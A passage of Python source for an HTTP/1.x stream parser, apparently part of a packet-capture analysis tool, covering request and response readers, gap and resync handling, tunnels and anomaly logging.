            if len(buf) > RESYNC_KEEP:
                del buf[: len(buf) - RESYNC_KEEP]
            self.pos = len(data)
            return
        if start >= old:  # the new message starts in this chunk: read it from there
            buf.clear()
            self.pos += start - old
        else:  # it started in an earlier chunk: keep that part, this chunk follows
            del buf[old:]
            del buf[:start]
            self.head_ts, self.head_frame = self.ts, self.frame
        self._goto(State.HEAD)

    def _find_start(self, buf: bytearray, lo: int) -> int:
        raise NotImplementedError

    def _read_tunnel(self, data: bytes) -> None:
        self.pos = len(data)

    def _read_closed(self, data: bytes) -> None:
        side = "client" if self.direction == ORIG else "server"
        self._warn(f"unexpected_{side}_HTTP_data", f"{len(data) - self.pos} bytes after end")
        self.pos = len(data)

    # -- events other than data

    def resync(self) -> None:
        """After malformed input: cut the message in progress, look for the next."""
        if self.state in _FINAL:
            return
        if self.tx is not None:
            self._finish("gap")
        self.buf.clear()
        self._goto(State.RESYNC)

    def gap(self, size: int) -> None:
        state = self.state
        tx = self.tx
        if state is State.LENGTH or state is State.CHUNK_DATA:
            # The hole is inside a body of known length: count it and go on.
            assert tx is not None
            tx.cut("gap")
            take = min(size, self.remaining)
            self.remaining -= take
            tx.body[self.direction] += take
            if not self.remaining:
                if state is State.LENGTH:
                    self._complete()
                else:
                    self._goto(State.CHUNK_END)
            if size > take:
                self.gap(size - take)
        elif state is State.CLOSE:
            assert tx is not None
            tx.cut("gap")
            tx.body[self.direction] += size
        elif state is State.RESYNC:
            self.buf.clear()  # bytes on both sides of a hole are not one message
        elif state not in _FINAL:
            self._warn("HTTP_content_gap", f"{size} bytes lost in {state.value}")
            if tx is not None:
                self._finish("gap")
            else:
                self._lost_head()
            self.resync()

    def end(self, how: str) -> None:
        if self.state in _FINAL:
            return
        cut = "open" if how == "eof" else how
        try:
            self._end_message(how, cut)
        finally:
            self.buf.clear()
            self._goto(State.CLOSED)
            self._ended(cut)

    def _end_message(self, how: str, cut: str) -> None:
        state = self.state
        if state is State.CLOSE:
            # RFC 9112 §6.3 step 8: the close delimits the body. A RST may have
            # cut it, and at the end of the capture more may have followed.
            self._finish(None if how == "fin" else cut)
        elif self.tx is not None:
            if state is State.LENGTH and how != "eof":
                self._warn("HTTP_content_length_mismatch", f"{self.remaining} bytes missing")
            self._finish(cut)
        elif state is State.HEAD and self.buf:
            self._warn("HTTP_truncated_head", f"{len(self.buf)} bytes")
            self._cut_head(cut)

    def _cut_head(self, ended: str) -> _Tx | None:
        """Make what we can of a partial head: its complete lines, if any."""
        partial = bytes(self.buf)
        self.buf.clear()
        lf = partial.rfind(b"\n")
        if lf < 0:
            return None
        tx = self._parse_head(self._parse_lines(_head_lines(partial[: lf + 1], self._warn)))
        if tx is not None:
            self.tx = tx
            self._finish(ended)
        return tx


class _RequestReader(_Reader):
    __slots__ = ("paused", "paused_size", "waiting_for")

    def __init__(self, conn: HttpConnection) -> None:
        super().__init__(conn, ORIG)
        self.one_line_unless = " HTTP/"  # a request line without it is HTTP/0.9's whole head
        self.parse_start_line, self.start_lines = _request_line, _REQUEST_LINES
        # Client bytes held back while a CONNECT/Upgrade waits for its answer.
        self.paused: list[tuple[bytes, int, int]] = []
        self.paused_size = 0
        self.waiting_for: _Tx | None = None

    def _start_line(self, line: str) -> tuple:
        try:
            return _Reader._start_line(self, line)
        except ParseError:
            m = _SPACED_REQUEST_LINE.fullmatch(line)
            if m is None:
                raise
        # Not remembered: the anomaly is due each time.
        self._warn("HTTP_space_in_target", line[:80])
        return m.groups()

    def _start_inside(self, line: bytes) -> int:
        # Only a method a client means (a bare "T" in "G(T / HTTP/1.1" is no request), and
        # "PGET" after a SOCKS port 80 (0x00 0x50) is GET.
        i = self._find_start(line, 0)
        if i < 0:
            return -1
        word = line[i : line.find(b" ", i)].decode("latin-1")
        known = next((m for m in _SIMPLE_METHODS if word.endswith(m)), None)
        return -1 if known is None else i + len(word) - len(known)

    def _head_end(self, buf: bytes | bytearray, start: int) -> int:
        lf = buf.find(b"\n", start)
        if lf < 0:
            return -1
        if buf.find(b" HTTP/", start, lf) < 0:
            return lf + 1  # an HTTP/0.9 request is its request line alone
        return _blank_line_end(buf, lf)

    def _parse_head(self, head: _Head) -> _Tx | None:
        _, (method, target, version), fields, _ = head
        if version != self.version:
            self._check_version(version)
        conn = self.conn
        tx = (conn._early is not None and conn._ahead_of(self.head_ts)) or conn._new_tx(self)
        tx.method, tx.uri, tx.version, tx.request_headers = method, target, version, fields
        tx.start_ns[ORIG], tx.start_frame[ORIG] = self.head_ts, self.head_frame
        return tx

    def _on_head(self, head: _Head, data: bytes) -> None:
        tx = self._parse_head(head)
        assert tx is not None
        self.tx = tx
        if tx.version == "0.9":  # no fields, no body (RFC 1945 §4.1)
            self._complete()
            return
        framing = head[3]
        tx.switches = tx.method == "CONNECT" or (
            bool(framing) and any(name.lower() == "upgrade" for name, _ in framing))
        how, length = body_framing(framing, tx.method, None, self._warn)
        self._start_body(how, length, data)

    def _next_state(self, tx: _Tx) -> State:
        # h11's MIGHT_SWITCH_PROTOCOL: what follows CONNECT or an Upgrade
        # request may be another protocol; the answer will tell.
        if tx.switches and tx.status is None and not tx.done[RESP]:
            self.waiting_for = tx
            return State.PAUSED
        return _S_HEAD

    def _read_paused(self, data: bytes) -> None:
        chunk = data[self.pos :]
        self.pos = len(data)
        self.paused_size += len(chunk)
        if self.paused_size > HEAD_MAX:
            self._drop_paused()
            raise ParseError("unexpected_client_HTTP_data", "too much data before the answer")
        self.paused.append((chunk, self.ts, self.frame))

    def resume(self) -> None:
        """The answer did not switch protocols: parse what the client sent meanwhile."""
        chunks = self.paused
        self._drop_paused()
        self._goto(State.HEAD)
        for chunk, ts, frame in chunks:
            self.conn.data(ORIG, chunk, ts, frame)

    def _drop_paused(self) -> None:
        self.paused = []
        self.paused_size = 0
        self.waiting_for = None

    def resync(self) -> None:
        self._drop_paused()
        super().resync()

    def _lost_head(self) -> None:
        # Lost client bytes between requests belong to at least one request:
        # keep a place for it so the responses still pair in order.
        if self.state is State.HEAD and self._cut_head("gap") is None:
            tx = self.conn._new_tx(self)
            tx.cut("gap")
            tx.done[ORIG] = True

    def _end_message(self, how: str, cut: str) -> None:
        if self.state is State.PAUSED:  # no answer came: read on as plain requests
            self.resume()
        super()._end_message(how, cut)

    def _find_start(self, buf: bytearray, lo: int) -> int:
        """Start of a line "METHOD target HTTP/1." in ``buf``, or -1."""
        i = buf.find(b" HTTP/1.", lo)
        while i >= 0:
            line_lo = max(buf.rfind(b"\n", max(0, i - MAX_LINE), i) + 1, i - MAX_LINE)
            sp = buf.rfind(b" ", line_lo, i)
            if sp > line_lo:
                m = _METHOD_TAIL.search(buf, max(line_lo, sp - 32), sp)
                if m is not None:
                    return m.start()
            i = buf.find(b" HTTP/1.", i + 1)
        return -1


class _ResponseReader(_Reader):
    __slots__ = ("lost_since",)

    def __init__(self, conn: HttpConnection) -> None:
        super().__init__(conn, RESP)
        self.parse_start_line, self.start_lines = _status_line, _STATUS_LINES
        # When server bytes that are no status line began (see HttpConnection._realign).
        self.lost_since: int | None = None

    def _read_head(self, data: bytes) -> None:
        awaiting = self.conn._awaiting
        buf = self.buf
        if awaiting and awaiting[0].version == "0.9" and len(buf) < 5:
            # An HTTP/0.9 answer has no status line (RFC 1945 §4.2): its bytes
            # are a body up to the close. Some servers answer with a status
            # line all the same; the first 5 bytes tell.
            start = bytes(buf) + data[self.pos : self.pos + 5 - len(buf)]
            if not start.startswith(b"HTTP/"[: len(start)]):
                self._start_http09(awaiting[0])
                return
            if len(start) < 5:
                if not buf:
                    self.head_ts, self.head_frame = self.ts, self.frame
                buf += memoryview(data)[self.pos :]
                self.pos = len(data)
                return
        _Reader._read_head(self, data)

    def _start_http09(self, tx: _Tx) -> None:
        self.tx = tx
        if self.buf:
            tx.start_ns[RESP], tx.start_frame[RESP] = self.head_ts, self.head_frame
        else:
            tx.start_ns[RESP], tx.start_frame[RESP] = self.ts, self.frame
        tx.body[RESP] = len(self.buf)
        self.buf.clear()
        self._goto(State.CLOSE)

    def _parse_head(self, head: _Head) -> _Tx | None:
        line, (version, status, reason), fields, _ = head
        if version != self.version:
            self._check_version(version)
        conn = self.conn
        if self.lost_since is not None:
            conn._realign(self.lost_since)
            self.lost_since = None
        tx = conn._awaiting[0] if conn._awaiting else conn._unmatched_reply(self, line, status)
        if 100 <= status < 200 and status != 101:
            tx.interim += (status,)  # the final answer follows (RFC 9110 §15.2)
            return None
        tx.status, tx.reason, tx.response_version = status, reason, version
        tx.response_headers = fields
        tx.start_ns[RESP], tx.start_frame[RESP] = self.head_ts, self.head_frame
        return tx

    def _on_head(self, head: _Head, data: bytes) -> None:
        tx = self._parse_head(head)
        if tx is None:
            self._goto(State.HEAD)
            return
        self.tx = tx
        framing, length = body_framing(head[3], tx.method, tx.status, self._warn)
        if framing is _F_TUNNEL:
            self._finish("tunnel")
            self.conn._switch(tx)
            return
        self.conn._answered(tx)
        self._start_body(framing, length, data)
        if framing is _F_CLOSE and self.state is State.CLOSE and _bad_length(head[3]):
            # Read to the close, as a client would have, unless a later request is answered
            # meanwhile: the length was garbage (20 digits, say), not a promise to close.
            self._step = self._read_close_watching

    def _read_close_watching(self, data: bytes) -> None:
        """A body read to the close after an invalid Content-Length, watching for the next answer."""
        if len(self.conn._awaiting) > 1:  # a later request waits: its status line ends this body
            start = self._find_start(data, self.pos)
            if start >= 0:
                tx = self.tx
                assert tx is not None
                tx.body[RESP] += start - self.pos
                self.pos = start
                self.resync()  # this answer's framing was broken; the next one starts here
                return
        self._read_close(data)

    def _finished(self, tx: _Tx) -> None:
        awaiting = self.conn._awaiting
        if awaiting and awaiting[0] is tx:
            awaiting.pop(0)

    def _lost_head(self) -> None:
        # The hole swallowed (the start of) the answer to the oldest request.
        awaiting = self.conn._awaiting
        if self._cut_head("gap") is None and awaiting:
            tx = awaiting.pop(0)
            tx.cut("gap")
            tx.done[RESP] = True

    def _ended(self, cut: str) -> None:
        self.conn._server_closed(cut)

    def _find_start(self, buf: bytearray, lo: int) -> int:
        """Start of a status line "HTTP/1.x NNN" in ``buf``, or -1."""
        i = buf.find(b"HTTP/1.", lo)
        while i >= 0:
            if _STATUS_START.match(buf, i):
                return i
            i = buf.find(b"HTTP/1.", i + 1)
        return -1


# ---------------------------------------------------------------------------
# The connection: public API and the one error boundary.


class HttpConnection:
    """The HTTP/1.x exchanges of one TCP connection, fed by the TCP stage.

    ``direction`` is ORIG (client) or RESP (server); ``data`` must be bytes,
    in stream order. ``how`` in ``end()`` is "fin", "rst" or "eof".
    """

    def __init__(self, conn_id: int, anomalies: AnomalyLog, flow: str | None = None) -> None:
        self.conn_id = conn_id
        self.anomalies = anomalies
        self.flow = flow
        # Lists, not deques: they stay short (MAX_PENDING), and an empty deque costs 600 bytes on
        # each of the tens of thousands of idle connections a capture (or an attacker) can hold.
        self._txs: list[_Tx] = []  # every exchange not handed out yet, in order
        self._awaiting: list[_Tx] = []  # requests whose final answer has not begun
        self._count = 0
        self._early: _Tx | None = None  # an answer that may have been captured before its request
        self._dropped = 0  # exchanges that were only a place kept for lost bytes (see exchanges())
        self._server_done: str | None = None  # how RESP ended, once it has
        self._tunnel = False
        self.protocol = "HTTP/1"  # or "TLS", "HTTP/2": what _not_http() found instead
        self._request = _RequestReader(self)
        self._readers: tuple[_Reader, _Reader] = (self._request, _ResponseReader(self))

    # -- public API

    def close(self) -> None:
        """Done with this connection: break the reader <-> connection cycle and each reader's own
        (its ``_step`` is one of its bound methods), so their memory goes back at once instead of
        waiting for the cyclic collector, which the pipeline runs rarely."""
        for reader in self._readers:
            reader.conn = None
            reader._step = None

    def data(self, direction: int, data: bytes, ts_ns: int, frame: int) -> None:
        reader = self._readers[direction]
        reader.ts = reader.data_ts = ts_ns
        reader.frame = frame
        reader.pos = 0
        try:
            # reader.feed(data), inlined: this runs for every segment, and
            # usually consumes all of it without a hitch.
            while reader.pos < len(data):
                reader._step(data)
        except Exception as e:  # noqa: BLE001 (the boundary: see _recover)
            self._feed_after(reader, data, e)

    def gap(self, direction: int, size: int, ts_ns: int, frame: int) -> None:
        if self._early is not None and direction == ORIG:
            self._settle_early(self._early)
        reader = self._readers[direction]
        reader.ts = reader.data_ts = ts_ns
        reader.frame = frame
        try:
            reader.gap(size)
        except Exception as e:  # noqa: BLE001 (the boundary: see _recover)
            self._recover(reader, e)

    def end(self, direction: int, how: str, ts_ns: int, frame: int) -> None:
        if self._early is not None and direction == ORIG:
            self._settle_early(self._early)
        reader = self._readers[direction]
        reader.ts, reader.frame = ts_ns, frame  # data_ts stays the last byte's
        try:
            reader.end(how)
        except Exception as e:  # noqa: BLE001 (the boundary: see _recover)
            self._recover(reader, e)

    def exchanges(self) -> Sequence[Exchange]:
        """Pop the finished exchanges, in connection order.

        The pipeline asks after every event and usually nothing is finished,
        so that case returns the empty tuple without building anything.
        """
        txs = self._txs
        if not (txs and txs[0].done[ORIG] and txs[0].done[RESP]):
            return ()
        finished = []
        while txs and txs[0].done[ORIG] and txs[0].done[RESP]:
            tx = txs.pop(0)
            # A place kept for a request lost in a gap whose answer was lost too says
            # nothing: an exchange needs a request or a response. Later ones move up.
            if tx.method is None and tx.status is None:
                self._dropped += 1
                continue
            tx.index -= self._dropped
            finished.append(tx.freeze(self.conn_id, tx.ended or "complete"))
        return finished

    def pending(self) -> list[Exchange]:
        """Snapshots of the exchanges not finished yet (for a live view)."""
        return [tx.freeze(self.conn_id, tx.ended or "open") for tx in self._txs
                if not (tx.done[ORIG] and tx.done[RESP]) and (tx.method or tx.status is not None)]

    @property
    def tunnel(self) -> bool:
        """True after CONNECT 2xx or 101: the rest of the connection is opaque."""
        return self._tunnel

    # -- the boundary

    def _feed_after(self, reader: _Reader, chunk: bytes, error: Exception) -> None:
        """data() after ``error`` stopped ``reader`` in ``chunk``: recover, feed the rest."""
        todo: list[bytes] = []  # a work list, not recursion: rescans can follow rescans
        while True:
            if not self._recover(reader, error):
                return
            if isinstance(error, ParseError) and error.rescan:
                # The rejected head may hide a message start: scan it first.
                todo += (chunk[reader.pos :], error.rescan)
                chunk, reader.pos = b"", 0
            try:
                while reader.pos < len(chunk) or todo:
                    if reader.pos >= len(chunk):
                        chunk, reader.pos = todo.pop(), 0
                    else:
                        reader.feed(chunk)
                return
            except Exception as e:  # noqa: BLE001 (the boundary: see _recover)
                error = e

    def _recover(self, reader: _Reader, error: Exception) -> bool:
        """Record what went wrong and resync; False if the rest of the data must go."""
        if isinstance(error, ParseError):
            self._anomaly(error.name, reader.frame, reader.ts, error.detail)
            if error.name == "bad_HTTP_reply" and reader.direction == RESP:
                reader.lost_since = reader.head_ts  # type: ignore[attr-defined]
            reader.resync()
            return True
        # A bug of ours: a capture must never crash the pipeline, but say so.
        self._anomaly("HTTP_internal_error", reader.frame, reader.ts, repr(error))
        reader.resync()
        return False

    def _anomaly(self, name: str, frame: int, ts_ns: int, detail: str) -> None:
        self.anomalies.add(name, frame, ts_ns, self.flow, detail)

    # -- called by the readers

    def _new_tx(self, reader: _Reader) -> _Tx:
        self._count += 1
        tx = _Tx(self._count)
        self._txs.append(tx)
        if self._server_done is not None:
            # The server had already closed, so no answer can come: the
            # keep-alive race, a request crossing the server's FIN.
            tx.cut(self._server_done)
            tx.done[RESP] = True
            return tx
        self._awaiting.append(tx)
        if len(self._awaiting) > MAX_PENDING:
            self._let_go(reader)
        return tx

    def _let_go(self, reader: _Reader) -> None:
        """Stop waiting for the oldest answer (one-sided captures would pile up)."""
        awaiting = self._awaiting
        victim = awaiting[1] if awaiting[0] is self._readers[RESP].tx else awaiting[0]
        awaiting.remove(victim)
        victim.cut("open")
        victim.done[RESP] = True
        reader._warn("HTTP_excessive_pipelining", f"over {MAX_PENDING} requests unanswered")

    def _realign(self, since: int) -> None:
        """The server sent bytes that were no status line from ``since`` on, and a status line now.

        If the oldest waiting request was sent before those bytes and the next one after them,
        they were the oldest's answer, its start lost (a capture joined mid-stream, a hole the
        TCP stage could not see): a client sends its next request once the answer is in. Pairing
        this status line with the oldest would shift every later answer by one.
        """
        awaiting = self._awaiting
        if len(awaiting) < 2:
            return
        first, second = awaiting[0].start_ns[ORIG], awaiting[1].start_ns[ORIG]
        if first is not None and second is not None and first <= since < second:
            tx = awaiting.pop(0)
            tx.cut("gap")
            tx.done[RESP] = True
            self._readers[RESP]._warn("HTTP_response_start_missing",
                                      f"answer to request {tx.index} not recognised")

    def _unmatched_reply(self, reader: _Reader, status_line: str, status: int) -> _Tx:
        tx = self._new_tx(reader)
        request = self._request
        if tx.index == 1 and request.version is None and request.state is _S_HEAD and status != 408:
            # The first message of a connection whose client has not spoken yet (nor ended): on a capture
            # joined mid-stream, mirrors of the two directions can put an answer a little ahead
            # of its request, and the TCP stage, having seen no client segment, cannot hold it
            # back. The client's next head tells (_ahead_of). A 408 is never an answer.
            self._early = tx
            return tx
        reader._warn("unmatched_HTTP_reply", status_line[:80])
        tx.done[ORIG] = True
        return tx

    def _ahead_of(self, ts_ns: int) -> _Tx | None:
        """The early answer, if the request whose head began at ``ts_ns`` is what it answered."""
        tx, self._early = self._early, None
        assert tx is not None
        start = tx.start_ns[RESP]
        if start is not None and ts_ns - start <= EARLY_NS:
            self._readers[ORIG]._warn("HTTP_reply_before_request",
                                      f"captured {(ts_ns - start) / 1000:.0f} us before its request")
            return tx
        self._settle_early(tx)
        return None

    def _settle_early(self, tx: _Tx) -> None:
        """An early answer turned out to have no request: an unmatched reply after all."""
        self._early = None
        self._anomaly("unmatched_HTTP_reply", tx.start_frame[RESP] or 0, tx.start_ns[RESP] or 0,
                      f"{tx.status} {tx.reason}"[:80])
        tx.done[ORIG] = True

    def _answered(self, tx: _Tx) -> None:
        """A final answer began; a client paused on it may go on."""
        if self._request.state is _S_PAUSED and self._request.waiting_for is tx:
            self._request.resume()

    def _switch(self, tx: _Tx) -> None:
        """CONNECT 2xx or 101: from here on the connection is opaque."""
        tx.ended = "tunnel"
        for other in self._txs:  # requests sent before the switch get no answer
            if not (other.done[ORIG] and other.done[RESP]):
                other.cut("tunnel")
                other.done[ORIG] = other.done[RESP] = True
        self._awaiting.clear()
        self._early = None
        self._tunnel = True
        if tx.status == 101 and _upgrades_to_h2c(tx):
            self.protocol = "HTTP/2"
            self._readers[RESP]._warn("HTTP2_not_parsed", "upgrade to h2c")
        self._request._drop_paused()
        for reader in self._readers:
            reader.tx = None
            reader.buf.clear()
            if reader.state is not State.CLOSED:
                reader._goto(State.TUNNEL)

    def _not_http(self, reader: _Reader, protocol: str) -> None:
        """The connection carries ``protocol``, not HTTP/1.x: say so once, read no further."""
        self.protocol = protocol
        if protocol == "TLS":
            reader._warn("TLS_not_decrypted", "")
        else:
            reader._warn("HTTP2_not_parsed", "prior knowledge")
        for other in self._readers:
            if other.state not in _FINAL:
                other.buf.clear()
                other._goto(State.TUNNEL)

    def _server_closed(self, cut: str) -> None:
        """RESP ended: every request still waiting will get no answer."""
        self._server_done = cut
        for tx in self._awaiting:
            tx.cut(cut)
            tx.done[RESP] = True
        self._awaiting.clear()
        if self._request.state is State.PAUSED:
            self._request.resume()
